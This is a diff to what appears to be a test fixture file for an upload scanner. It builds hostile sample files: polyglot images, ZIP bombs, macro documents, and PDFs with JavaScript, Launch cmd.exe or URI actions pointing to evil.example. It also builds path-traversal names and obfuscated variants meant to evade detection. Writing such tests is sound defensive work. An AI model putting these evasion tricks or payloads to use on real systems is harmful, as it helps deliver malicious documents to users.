@@ -1,20 +1,21 @@
+import { deflateSync } from "node:zlib";
 import type { UploadPurpose } from "@boab/contracts/uploads/uploads";
 import {
-  docm,
+  addJpegComment,
   docx,
   eicar,
   hiddenWord,
   jpeg,
-  ole,
-  overlappingDocx,
+  makeDocm,
+  makeOle,
+  makeOverlappingDocx,
+  makePhotoWithPlace,
+  makeTightPng,
   pdf,
-  photoWithPlace,
   picture,
   png,
   pngChunk,
-  tightPng,
   webp,
-  withComment,
   zip,
 } from "./make-files.ts";
 
@@ -49,13 +50,13 @@ const tiff = () => picture(20, 20).tiff().toBuffer();
 const avif = Buffer.from("0000001c6674797061766966000000006d696631617669666d696166", "hex");
 const heic = Buffer.from("0000001c6674797068656963000000006d6966316865696368657663", "hex");
 const exe = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)]);
-const followedBy = async (start: Promise<Buffer> | Buffer, end: string | Buffer) =>
+const appendBytes = async (start: Promise<Buffer> | Buffer, end: string | Buffer) =>
   Buffer.concat([await start, Buffer.from(end)]);
 const part = async (file: Promise<Buffer>, share: number) => {
   const bytes = await file;
   return bytes.subarray(0, Math.floor(bytes.length * share));
 };
-const blanks = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20);
+const makeBlankBytes = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20);
 const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>${hiddenWord}</exif:GPSLatitude></x:xmpmeta>`;
 const textChunk = pngChunk("tEXt", Buffer.from(`Comment\0${hiddenWord}`));
 
@@ -65,23 +66,23 @@ const pictures: Row[] = [
   ["a WebP", () => webp(), "webp", "ready"],
   ["a grey picture", () => picture(300, 200).greyscale().png().toBuffer(), "png", "ready"],
   ["a picture of one pixel", () => png(1, 1), "png", "ready"],
-  ["a JPEG with its place", () => photoWithPlace("jpeg"), "jpeg", "ready"],
-  ["a WebP with its place", () => photoWithPlace("webp"), "webp", "ready"],
-  ["a PNG with its place", () => photoWithPlace("png"), "png", "ready"],
-  ["a JPEG lying on its side", () => photoWithPlace("jpeg", 8), "jpeg", "ready"],
+  ["a JPEG with its place", () => makePhotoWithPlace("jpeg"), "jpeg", "ready"],
+  ["a WebP with its place", () => makePhotoWithPlace("webp"), "webp", "ready"],
+  ["a PNG with its place", () => makePhotoWithPlace("png"), "png", "ready"],
+  ["a JPEG lying on its side", () => makePhotoWithPlace("jpeg", 8), "jpeg", "ready"],
   [
     "a JPEG with a word in a comment",
-    async () => withComment(await jpeg(), hiddenWord),
+    async () => addJpegComment(await jpeg(), hiddenWord),
     "jpeg",
     "ready",
   ],
   [
     "a JPEG with a script in a comment",
-    async () => withComment(await jpeg(), html),
+    async () => addJpegComment(await jpeg(), html),
     "jpeg",
     "ready",
   ],
-  ["a JPEG with XMP in a comment", async () => withComment(await jpeg(), xmp), "jpeg", "ready"],
+  ["a JPEG with XMP in a comment", async () => addJpegComment(await jpeg(), xmp), "jpeg", "ready"],
   [
     "a PNG with a word in a text",
     async () => {
@@ -91,41 +92,41 @@ const pictures: Row[] = [
     "png",
     "ready",
   ],
-  ["a JPEG and a page", () => followedBy(jpeg(), html), "jpeg", "ready"],
+  ["a JPEG and a page", () => appendBytes(jpeg(), html), "jpeg", "ready"],
   [
     "a JPEG and a ZIP",
-    () => followedBy(jpeg(), zip([{ name: "a.exe", text: exe }])),
+    () => appendBytes(jpeg(), zip([{ name: "a.exe", text: exe }])),
     "jpeg",
     "ready",
   ],
-  ["a PNG and PHP", () => followedBy(png(), php), "png", "ready"],
-  ["a WebP and a page", () => followedBy(webp(), html), "webp", "ready"],
-  ["a PNG and the test virus", () => followedBy(png(), eicar), "png", "virus"],
+  ["a PNG and PHP", () => appendBytes(png(), php), "png", "ready"],
+  ["a WebP and a page", () => appendBytes(webp(), html), "webp", "ready"],
+  ["a PNG and the test virus", () => appendBytes(png(), eicar), "png", "virus"],
   [
     "49 megapixels, a JPEG on its side",
-    () => photoWithPlace("jpeg", 6, [7000, 7000]),
+    () => makePhotoWithPlace("jpeg", 6, [7000, 7000]),
     "jpeg",
     "ready",
   ],
   ["49 megapixels, a PNG", () => png(7000, 7000), "png", "ready"],
   ["49 megapixels, a WebP", () => webp(7000, 7000), "webp", "ready"],
   ["a picture 16 pixels high", () => png(30_000, 16), "png", "ready"],
-  ["81 megapixels", () => tightPng(9_000, 9_000), "png", "tooManyPixels"],
-  ["196 megapixels", () => tightPng(14_000, 14_000), "png", "tooManyPixels"],
-  ["289 megapixels", () => tightPng(17_000, 17_000), "png", "tooManyPixels"],
+  ["81 megapixels", () => makeTightPng(9_000, 9_000), "png", "tooManyPixels"],
+  ["196 megapixels", () => makeTightPng(14_000, 14_000), "png", "tooManyPixels"],
+  ["289 megapixels", () => makeTightPng(17_000, 17_000), "png", "tooManyPixels"],
   [
     "196 megapixels announced, one row sent",
-    () => tightPng(14_000, 14_000, 1),
+    () => makeTightPng(14_000, 14_000, 1),
     "png",
     "tooManyPixels",
   ],
-  ["a PNG with half its rows", () => tightPng(800, 800, 400), "png", "broken"],
+  ["a PNG with half its rows", () => makeTightPng(800, 800, 400), "png", "broken"],
   ["an SVG", () => Buffer.from(svg), "png", "wrongType"],
   ["an SVG as XML", () => Buffer.from(`<?xml version="1.0"?>${svg}`), "jpeg", "wrongType"],
   ["a page", () => Buffer.from(html), "jpeg", "wrongType"],
   ["PHP", () => Buffer.from(php), "jpeg", "wrongType"],
   ["a GIF", () => gif, "png", "wrongType"],
-  ["a GIF with a script", () => followedBy(gif, "=1;alert(1)"), "jpeg", "wrongType"],
+  ["a GIF with a script", () => appendBytes(gif, "=1;alert(1)"), "jpeg", "wrongType"],
   ["a BMP", () => bmp, "png", "wrongType"],
   ["a TIFF", tiff, "jpeg", "wrongType"],
   ["an AVIF", () => avif, "webp", "wrongType"],
@@ -140,45 +141,62 @@ const pictures: Row[] = [
   ["the start of a JPEG", async () => (await jpeg()).subarray(0, 20), "jpeg", "broken"],
   ["half a JPEG", () => part(jpeg(2_000, 2_000), 0.5), "jpeg", "broken"],
   ["half a PNG", () => part(png(2_000, 2_000), 0.5), "png", "broken"],
-  ["half a WebP", () => part(photoWithPlace("webp"), 0.5), "webp", "broken"],
+  ["half a WebP", () => part(makePhotoWithPlace("webp"), 0.5), "webp", "broken"],
   [
     "a JPEG's first bytes and a page",
-    () => followedBy(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html),
+    () => appendBytes(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html),
     "jpeg",
     "broken",
   ],
   [
     "a JPEG with too many bytes behind it",
-    () => followedBy(jpeg(), blanks(26)),
+    () => appendBytes(jpeg(), makeBlankBytes(26)),
     "jpeg",
     "tooLarge",
   ],
 ];
 
-const relationships = (target: string, type = "http://x/attachedTemplate") => ({
+const makeRelationships = (target: string, type = "http://x/attachedTemplate") => ({
   name: "word/_rels/settings.xml.rels",
   text: `<Relationships><Relationship Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
 });
 
+const links = (text: string) => ({ name: "word/_rels/document.xml.rels", text });
+const linked = (type: string) =>
+  links(
+    `<Relationship Id="r1" Type="${type}" Target="http://evil.example/a" TargetMode="External"/>`,
+  );
+
+/** A PDF with one object in an object stream, as every newer program writes them. */
+function makePackedPdf(object: string, more = "", filter = "/Filter/FlateDecode"): Buffer {
+  const body = deflateSync(Buffer.from(`3 0 ${object}`));
+  const stream = Buffer.concat([
+    Buffer.from(`5 0 obj<</Type/ObjStm/N 1/First 4${filter}/Length ${body.length}>>stream\n`),
+    body,
+    Buffer.from("\nendstream endobj\n"),
+  ]);
+  return Buffer.concat([Buffer.from("%PDF-1.7\n"), stream, pdf(more).subarray(9)]);
+}
+
 const documents: Row[] = [
   ["a PDF", () => pdf(), "pdf", "ready"],
-  ["a DOC", () => ole("WordDocument"), "doc", "ready"],
+  ["a DOC", () => makeOle("WordDocument"), "doc", "ready"],
   ["a DOCX", () => docx(), "docx", "ready"],
   [
     "a DOCX with pictures",
-    () => docx([{ name: "word/media/image1.png", text: tightPng(99, 99) }]),
+    () => docx([{ name: "word/media/image1.png", text: makeTightPng(99, 99) }]),
     "docx",
     "ready",
   ],
-  ["a PDF and a long page behind it", () => followedBy(pdf(), html.repeat(40)), "pdf", "broken"],
+  ["a PDF and a long page behind it", () => appendBytes(pdf(), html.repeat(40)), "pdf", "broken"],
   ["half a PDF", () => pdf().subarray(0, 30), "pdf", "broken"],
   ["a page called a PDF", () => Buffer.from(html), "pdf", "wrongType"],
-  ["a page before a PDF", () => followedBy(Buffer.from(html), pdf()), "pdf", "wrongType"],
+  ["a page before a PDF", () => appendBytes(Buffer.from(html), pdf()), "pdf", "wrongType"],
   ["a DOCX called a PDF", () => docx(), "pdf", "wrongType"],
   ["a picture called a PDF", () => png(), "pdf", "wrongType"],
-  ["a DOC with macros", () => ole("WordDocument", "Macros", "_VBA_PROJECT"), "doc", "macros"],
-  ["a spreadsheet called a DOC", () => ole("Workbook"), "doc", "wrongType"],
-  ["a DOCM", docm, "docx", "macros"],
+  ["a DOC with macros", () => makeOle("WordDocument", "Macros", "_VBA_PROJECT"), "doc", "macros"],
+  ["a spreadsheet called a DOC", () => makeOle("Workbook"), "doc", "wrongType"],
+  ["a DOCM", makeDocm, "docx", "macros"],
   [
     "a DOCM that says it is a DOCX",
     () => docx([{ name: "word/vbaProject.bin", text: "x" }]),
@@ -193,26 +211,138 @@ const documents: Row[] = [
   ],
   [
     "a DOCX with a template elsewhere",
-    () => docx([relationships("http://evil.example/t.dotm")]),
+    () => docx([makeRelationships("http://evil.example/t.dotm")]),
     "docx",
     "macros",
+  ],
+  ...["oleObject", "frame", "image", "subDocument", "afChunk"].map(
+    (kind): Row => [
+      `a DOCX with an external ${kind}`,
+      () => docx([linked(`http://x/${kind}`)]),
+      "docx",
+      "activeContent",
+    ],
+  ),
+  ["a DOCX with hyperlinks", () => docx([linked("http://x/hyperlink")]), "docx", "ready"],
+  [
+    "a DOCX whose external picture is written with other quotes and spaces",
+    () =>
+      docx([links("<Relationship Type='http://x/image' TargetMode = 'External' Target='//h/a'/>")]),
+    "docx",
+    "activeContent",
+  ],
+  [
+    "a DOCX whose list of links declares an entity",
+    () => docx([links('<!DOCTYPE a [<!ENTITY e "External">]><Relationship TargetMode="&e;"/>')]),
+    "docx",
+    "activeContent",
+  ],
+  [
+    "a DOCX with an embedded file",
+    () => docx([{ name: "word/embeddings/oleObject1.bin", text: "x" }]),
+    "docx",
+    "activeContent",
+  ],
+  [
+    "a DOCX with a control",
+    () => docx([{ name: "word/activeX/activeX1.xml", text: "x" }]),
+    "docx",
+    "activeContent",
+  ],
+  [
+    "a DOC with a package",
+    () => makeOle("WordDocument", "ObjectPool", "\u0001Ole10Native"),
+    "doc",
+    "activeContent",
+  ],
+  ["a DOC with an object", () => makeOle("WordDocument", "\u0003ObjInfo"), "doc", "activeContent"],
+  ...[
+    "<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
+    "<</OpenAction<</S/J#61vaScr#69pt>>>>",
+    "<</AA<</O<</JS 9 0 R>>>>>>",
+    "<</S/Launch/F(cmd.exe)>>",
+    "<</Names<</EmbeddedFiles 8 0 R>>>>",
+    "<</Type/EmbeddedFile/Length 3>>",
+    "<</OpenAction<</S/URI/URI(http://evil.example)>>>>",
+    "<</OpenAction<</S/U#52I/U#52#49(http://evil.example)>>>>",
+    "<</OpenAction<</X(>>)/S/URI/URI(http://evil.example)>>>>",
+    "<</OpenAction 8 0 R>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
+    "<</AA<</O 8 0 R>>>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
+    "<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next 8 0 R>>>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
+    "<</OpenAction 7 0 R>>endobj 7 0 obj<</S/GoTo/Next 8 0 R>>endobj 8 0 obj<</S/URI/URI(http://evil.example)>>",
+    "<</S/SubmitForm>>",
+  ].map(
+    (object): Row => [
+      `a PDF with ${object}`,
+      () => pdf(`7 0 obj${object}endobj\n`),
+      "pdf",
+      "activeContent",
+    ],
+  ),
+  [
+    "a PDF with a script in a packed object",
+    () => makePackedPdf("<</S/JavaScript/JS(x)>>"),
+    "pdf",
+    "activeContent",
+  ],
+  ["a PDF with a packed object", () => makePackedPdf("<</Type/Font>>"), "pdf", "ready"],
+  [
+    "a PDF that opens an address from a packed object",
+    () =>
+      makePackedPdf("<</S/URI/URI(http://evil.example)>>", "7 0 obj<</OpenAction 3 0 R>>endobj\n"),
+    "pdf",
+    "activeContent",
+  ],
+  [
+    "a PDF with a packed object in an unusual encoding",
+    () => makePackedPdf("<</Type/Font>>", "", "/Filter[/ASCIIHexDecode/FlateDecode]"),
+    "pdf",
+    "broken",
+  ],
+  ["a PDF with a bomb as its objects", () => makePackedPdf(" ".repeat(30e6)), "pdf", "broken"],
+  [
+    "a locked PDF with packed objects",
+    () => makePackedPdf("<</Type/Font>>", "trailer<</Encrypt 9 0 R>>\n"),
+    "pdf",
+    "locked",
+  ],
+  [
+    "a PDF with a script behind an open bracket",
+    () => pdf("( 7 0 obj<</S/JavaScript>>endobj\n"),
+    "pdf",
+    "activeContent",
+  ],
+  [
+    "a PDF with a script between a false stream's ends",
+    () => pdf("%>>stream\n7 0 obj<</S/Launch>>endobj\nendstream\n"),
+    "pdf",
+    "activeContent",
+  ],
+  [
+    "a PDF with a link, a place to open at, and a title about /JS",
+    () =>
+      pdf(
+        "7 0 obj<</OpenAction[3 0 R/Fit]/Title(React/JS developer)/A<</S/URI/URI(http://x)>>>>endobj\n",
+      ),
+    "pdf",
+    "ready",
   ],
   ["a ZIP", () => zip([{ name: "a.txt", text: "a" }]), "docx", "wrongType"],
   [
     "a ZIP bomb",
-    () => docx([{ name: "word/bomb.xml", text: blanks(50) }]),
+    () => docx([{ name: "word/bomb.xml", text: makeBlankBytes(50) }]),
     "docx",
     "packedTooTightly",
   ],
   [
     "a ZIP bomb of 70 MB",
-    () => docx([{ name: "word/bomb.xml", text: blanks(70) }]),
+    () => docx([{ name: "word/bomb.xml", text: makeBlankBytes(70) }]),
     "docx",
     "packedTooTightly",
   ],
   [
     "a ZIP bomb that lies about its size",
-    () => docx([{ name: "word/bomb.xml", text: blanks(40), claimedSize: 100 }]),
+    () => docx([{ name: "word/bomb.xml", text: makeBlankBytes(40), claimedSize: 100 }]),
     "docx",
     "packedTooTightly",
   ],
@@ -224,11 +354,11 @@ const documents: Row[] = [
   ],
   [
     "a DOCX with a template elsewhere, written in character references",
-    () => docx([relationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
+    () => docx([makeRelationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
     "docx",
     "macros",
   ],
-  ["a DOCX with parts that share their bytes", overlappingDocx, "docx", "broken"],
+  ["a DOCX with parts that share their bytes", makeOverlappingDocx, "docx", "broken"],
   [
     "a DOCX with a name that leads out of it",
     () => docx([{ name: "../../etc/passwd", text: "x" }]),
@@ -245,7 +375,7 @@ const documents: Row[] = [
   ],
   ["the test virus", () => Buffer.from(eicar), "pdf", "virus"],
   ["a PDF with the test virus", () => pdf(eicar), "pdf", "virus"],
-  ["too large a PDF", () => followedBy(pdf(), blanks(6)), "pdf", "tooLarge"],
+  ["too large a PDF", () => appendBytes(pdf(), makeBlankBytes(6)), "pdf", "tooLarge"],
 ];
 
 const toFiles = (rows: Row[], purpose: UploadPurpose): HostileFile[] =>
